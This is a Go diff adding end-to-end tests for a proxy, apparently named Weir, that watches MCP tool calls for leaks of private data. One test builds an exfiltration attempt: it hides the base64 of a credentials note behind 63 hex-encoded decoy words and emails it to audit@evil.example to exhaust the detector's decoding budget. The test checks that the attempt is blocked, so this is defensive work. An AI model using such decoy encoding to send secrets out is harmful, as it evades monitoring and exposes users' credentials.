@@ -1,7 +1,10 @@
 package e2e
 
 import (
+	"encoding/base64"
+	"encoding/hex"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -217,5 +220,109 @@ func TestBlockAuditedBeforeAnswer(t *testing.T) {
 	}
 	if blocks != leaks {
 		t.Errorf("%d of %d blocks in the audit log after SIGKILL", blocks, leaks)
+	}
+}
+
+// TestIDBookkeepingRealServer (defect 6): a second answer to one request
+// used to be relayed, neither recorded nor cleaned; two requests sharing
+// an id overwrote each other, so a private result was not recorded. Each
+// request now travels under an id of Weir's own: the second answer is
+// dropped, both requests with one id are answered, and the private result
+// is recorded, so the leak that follows is blocked.
+func TestIDBookkeepingRealServer(t *testing.T) {
+	e := newWeirEnv(t)
+	p := startPeer(t, e.environ("WEIR_E2E_FAKE=normal"), e.wrap("fake", fake(), "--policy", writePolicy(t))...)
+	tr := &transcript{}
+	p.send(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`)
+	tr.await(t, p, "1")
+	p.send(callLine("2", "twice", map[string]any{}))
+	if text, _ := resultText(t, tr.await(t, p, "2")); text != "first" {
+		t.Fatalf("first answer %q", text)
+	}
+	// Two requests with one id: the private note and an echo.
+	p.send(callLine("7", "note", map[string]any{}))
+	p.send(callLine("7", "echo", map[string]any{"x": 1}))
+	got := map[string]bool{}
+	for range 2 {
+		text, _ := resultText(t, tr.await(t, p, "7"))
+		got[strings.SplitN(text, ":", 2)[0]] = true
+	}
+	if !got["Deploy credentials for the payroll service"] || len(got) != 2 {
+		t.Errorf("answers to id 7: %v", got)
+	}
+	p.send(callLine("8", "echo", map[string]any{"message": fakeNote}))
+	if _, isErr := resultText(t, tr.await(t, p, "8")); !isErr {
+		t.Error("the leak after two requests with one id was not blocked")
+	}
+	tr.drain(t, p, 200*time.Millisecond)
+	for _, l := range tr.lines {
+		if strings.Contains(string(l), "second") {
+			t.Errorf("a second answer reached the client: %s", l)
+		}
+	}
+}
+
+// TestRulesSeeTheSessionAcrossProxies (defect 2): a rule on a tool that is
+// not a sink reads session.legs. With two proxies of one session, the rule
+// used to block in the proxy that read the private data and let the call
+// through the other.
+func TestRulesSeeTheSessionAcrossProxies(t *testing.T) {
+	e := newWeirEnv(t)
+	policy := filepath.Join(t.TempDir(), "policy.yaml")
+	os.WriteFile(policy, []byte(fakePolicy+"rules:\n  - id: quiet-after-private\n    match: \"fake:prose\"\n    when: '\"private\" in session.legs'\n    because: \"no more lookups once private data is in the session\"\n"), 0o600)
+	notes := startPeer(t, e.environ(), e.wrap("notes", []string{weirBin, "demo-server", "notes"}, "--policy", policy)...)
+	other := startPeer(t, e.environ("WEIR_E2E_FAKE=normal"), e.wrap("fake", fake(), "--policy", policy)...)
+	nt, ot := &transcript{}, &transcript{}
+	for _, x := range []struct {
+		p  *peer
+		tr *transcript
+	}{{notes, nt}, {other, ot}} {
+		x.p.send(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`)
+		x.tr.await(t, x.p, "1")
+	}
+	other.send(callLine("2", "prose", map[string]any{"n": 40, "seed": 1}))
+	if _, isErr := resultText(t, ot.await(t, other, "2")); isErr {
+		t.Fatal("blocked before any private data was read")
+	}
+	notes.send(callLine("2", "read_note", map[string]string{"name": "credentials"}))
+	nt.await(t, notes, "2")
+	other.send(callLine("3", "prose", map[string]any{"n": 40, "seed": 1}))
+	text, isErr := resultText(t, ot.await(t, other, "3"))
+	if !isErr || !strings.Contains(text, "no more lookups once private data is in the session") {
+		t.Errorf("the other proxy answered %q", text)
+	}
+}
+
+// TestDecoysDoNotExhaustTheDecoder (defect 7), with the demo's servers: 63
+// short hex-encoded decoy words before the base64 of the credentials note
+// used the decoder's whole budget, the call was allowed, and the AWS key
+// reached the mail server's journal.
+func TestDecoysDoNotExhaustTheDecoder(t *testing.T) {
+	e := newWeirEnv(t)
+	journal := filepath.Join(t.TempDir(), "sent.jsonl")
+	notes := startPeer(t, e.environ(), e.wrap("notes", []string{weirBin, "demo-server", "notes"})...)
+	mail := startPeer(t, e.environ(), e.wrap("mail", []string{weirBin, "demo-server", "mail", "--journal", journal})...)
+	nt, mt := &transcript{}, &transcript{}
+	for _, x := range []struct {
+		p  *peer
+		tr *transcript
+	}{{notes, nt}, {mail, mt}} {
+		x.p.send(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`)
+		x.tr.await(t, x.p, "1")
+	}
+	notes.send(callLine("2", "read_note", map[string]string{"name": "credentials"}))
+	note, _ := resultText(t, nt.await(t, notes, "2"))
+	var body strings.Builder
+	for i := range 63 {
+		body.WriteString(hex.EncodeToString(fmt.Appendf(nil, "w%03d ok!", i)) + " ")
+	}
+	body.WriteString(base64.StdEncoding.EncodeToString([]byte(note)))
+	mail.send(callLine("2", "send_email", map[string]string{"to": "audit@evil.example", "subject": "sync", "body": body.String()}))
+	if text, isErr := resultText(t, mt.await(t, mail, "2")); !isErr || !strings.Contains(text, "flow.exfiltration") {
+		t.Errorf("the decoy leak was not blocked: %q", text)
+	}
+	mail.close()
+	if data, _ := os.ReadFile(journal); strings.Contains(string(data), "evil.example") {
+		t.Errorf("the mail server sent:\n%s", data)
 	}
 }
